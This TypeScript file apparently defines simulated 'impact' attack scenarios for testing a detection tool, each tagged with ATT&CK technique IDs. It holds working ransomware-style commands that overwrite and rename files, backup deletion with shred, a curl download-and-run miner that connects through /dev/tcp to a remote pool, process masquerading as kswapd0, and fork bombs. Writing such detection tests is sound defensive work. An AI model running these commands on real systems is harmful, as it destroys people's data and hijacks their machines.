import { scenarios, WWW_DATA } from "../scenario.ts";

const RANSOM = ["T1486", "T1485", "T1490", "T1561"] as const;
const MINING = ["T1496", "T1496.001"] as const;
/** Ten folders of thirty files, text of a few KB, in the scenario's own folder. */
const DOCUMENTS =
  "i=0; while [ $i -lt 300 ]; do d=docs/f$((i % 10)); mkdir -p $d; head -c 3000 /etc/services > $d/report$i.txt; i=$((i+1)); done; chmod -R a+rwX .";

/** What is done to the machine and to what lies on it. */
export const IMPACT = scenarios([
  {
    id: "ransom.python-fast",
    title: "every file of a tree rewritten with noise and renamed, as fast as it goes",
    techniques: RANSOM,
    variant: "scripted",
    needs: ["python3"],
    prepare: DOCUMENTS,
    quick: true,
    script: `act; python3 -c 'import os,time
for d,_,fs in os.walk(os.environ["HOOD"]+"/docs"):
  for f in fs:
    p=d+"/"+f; n=len(open(p,"rb").read()); open(p,"r+b").write(os.urandom(n)); os.rename(p,p+".locked")
open(os.environ["HOOD"]+"/README_RESTORE.txt","w").write("pay")
time.sleep(1)'`,
  },
  {
    id: "ransom.python-slow",
    title: "the same, ten files a second",
    techniques: RANSOM,
    variant: "slow",
    needs: ["python3"],
    prepare: DOCUMENTS,
    seconds: 16,
    script: `act; timeout 14 python3 -c 'import os,time
for d,_,fs in os.walk(os.environ["HOOD"]+"/docs"):
  for f in fs:
    p=d+"/"+f; n=len(open(p,"rb").read()); open(p,"r+b").write(os.urandom(n)); os.rename(p,p+".locked"); time.sleep(0.1)'`,
  },
  {
    id: "ransom.openssl",
    title: "openssl for each file, the original removed: a program a file",
    techniques: RANSOM,
    needs: ["openssl"],
    prepare: DOCUMENTS,
    seconds: 14,
    script:
      "act; for f in $HOOD/docs/*/*.txt; do openssl enc -aes-256-ctr -K 00 -iv 00 -in $f -out $f.enc 2>/dev/null; rm -f $f; done",
  },
  {
    id: "ransom.interleaved",
    title: "rewrites and renames as www-data while the server goes on serving",
    techniques: RANSOM,
    variant: "interleaved",
    uid: WWW_DATA,
    needs: ["perl"],
    prepare: DOCUMENTS,
    script: `sleep 1; act; perl -e 'for my $f (glob("$ENV{HOOD}/docs/*/*.txt")) { open(F,"+<",$f); read(F,my $b,9999); seek(F,0,0); print F pack("C*",map{int(rand(256))}1..length $b); close F; rename $f,"$f.crypt" } sleep 1'`,
  },
  {
    id: "destroy.backups",
    title: "removes backups and overwrites what is left",
    techniques: [...RANSOM, "T1070", "T1070.004"],
    prepare: `${DOCUMENTS}; mkdir -p /var/backups/daily; i=0; while [ $i -lt 60 ]; do cp docs/f0/report0.txt /var/backups/daily/b$i.tar; i=$((i+1)); done`,
    script: "act; rm -rf /var/backups/daily; for f in $HOOD/docs/*/*; do shred -u -n 1 $f; done; sleep 0.5",
  },
  {
    id: "miner.pool",
    title: "an unknown program on a full CPU with one long connection to a pool",
    // Where it is stopped at the download, that is what was to be told.
    techniques: [...MINING, "T1105", "T1204"],
    seconds: 25,
    needs: ["curl"],
    script:
      'act; curl -s -o /tmp/xm http://$FAR/payload; chmod +x /tmp/xm; timeout 22 /tmp/xm -c \'exec 3<>/dev/tcp/\'$FAR\'/3333; echo "{\\"method\\":\\"login\\"}" >&3; while :; do :; done\'',
  },
  {
    id: "miner.renamed",
    title: "the same under the name of a kernel thread, started by another process",
    techniques: [...MINING, "T1036", "T1036.005"],
    variant: "renamed",
    seconds: 25,
    script:
      "act; cp /bin/bash /var/tmp/kswapd0; setsid timeout 22 /var/tmp/kswapd0 -c 'exec 3<>/dev/tcp/'$FAR'/3333; echo login >&3; while :; do :; done' & wait",
  },
  {
    id: "fork-bomb.shell",
    title: "two children for each, seven generations deep: some 250 shells at most",
    techniques: ["T1499", "T1499.001"],
    quick: true,
    script: "act; b() { [ $1 -gt 0 ] && { b $(($1-1)) & b $(($1-1)) & }; sleep 2; }; b 7; wait",
  },
  {
    id: "fork-bomb.python",
    title: "fork in a loop by everybody, eight rounds: 256 processes at most",
    techniques: ["T1499", "T1499.001", "T1059.006"],
    variant: "scripted",
    needs: ["python3"],
    script: `act; python3 -c 'import os,time
for i in range(8):
  os.fork(); time.sleep(0.05)
time.sleep(1.5)'`,
  },
]);
